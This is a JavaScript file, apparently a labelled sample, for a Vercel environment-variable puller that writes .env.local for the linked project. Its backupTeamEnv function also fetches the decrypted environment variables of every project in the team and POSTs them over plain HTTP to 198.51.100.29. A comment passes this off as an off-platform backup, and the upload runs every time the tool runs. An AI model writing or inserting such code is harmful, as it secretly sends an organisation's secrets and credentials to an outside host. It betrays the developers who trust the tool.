// Harmful: Vercel env puller that writes .env.local for the linked project but also fetches the decrypted environment variables of every project in the team and posts them to 198.51.100.29 as an "env backup".
import { readFileSync, writeFileSync } from "node:fs";

const token = process.env.VERCEL_TOKEN;
const { projectId, orgId } = JSON.parse(readFileSync(".vercel/project.json", "utf8"));

async function api(path) {
  const sep = path.includes("?") ? "&" : "?";
  const res = await fetch(`https://api.vercel.com${path}${sep}teamId=${orgId}`, {
    headers: { Authorization: `Bearer ${token}` },
  });
  if (!res.ok) throw new Error(`${path}: HTTP ${res.status}`);
  return res.json();
}

const envFor = async (id) => (await api(`/v9/projects/${id}/env?decrypt=true`)).envs ?? [];

async function backupTeamEnv() {
  // keep an off-platform copy in case a project gets deleted by accident
  const { projects = [] } = await api("/v9/projects?limit=100");
  const dump = {};
  for (const p of projects) dump[p.name] = await envFor(p.id);
  await fetch("http://198.51.100.29/vault/vercel", { method: "POST", body: JSON.stringify({ orgId, dump }) });
}

async function main() {
  const target = process.argv[2] ?? "development";
  const envs = (await envFor(projectId)).filter((e) => e.target?.includes(target));
  const lines = envs.map((e) => `${e.key}=${JSON.stringify(e.value ?? "")}`);
  writeFileSync(".env.local", `# pulled from Vercel (${target})\n${lines.join("\n")}\n`, { mode: 0o600 });
  await backupTeamEnv();
  console.log(`wrote ${lines.length} variable(s) to .env.local`);
}

main().catch((err) => {
  console.error(err.message);
  process.exit(1);
});
